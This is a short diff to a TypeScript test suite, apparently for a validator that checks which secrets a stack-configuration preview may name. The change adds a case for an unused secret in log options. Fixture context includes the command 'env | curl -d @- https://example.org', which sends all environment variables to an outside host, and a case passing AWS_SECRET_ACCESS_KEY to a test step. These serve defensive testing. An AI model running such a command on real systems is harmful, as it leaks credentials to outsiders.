@@ -76,6 +76,13 @@ describe("what a preview may name", function () {
         { sidecars: { otel: { image: "ghcr.io/team/users:1", secrets: { A: "/prod/password" } } } },
         "- `services.users.sidecars` name a secret that no service uses in stack base",
       ],
+      [
+        {
+          sidecars: { router: { image: "ghcr.io/team/users:1", logRouter: {} } },
+          logs: { options: { Name: "http" }, secretOptions: { key: "/prod/password" } },
+        },
+        "- `services.users.logs` name a secret that no service uses in stack base",
+      ],
       [{ test: { command: "env | curl -d @- https://example.org" } }, test],
       [{ test: { command: "npm test", passVariables: ["AWS_SECRET_ACCESS_KEY"] } }, test],
     ] as const) {
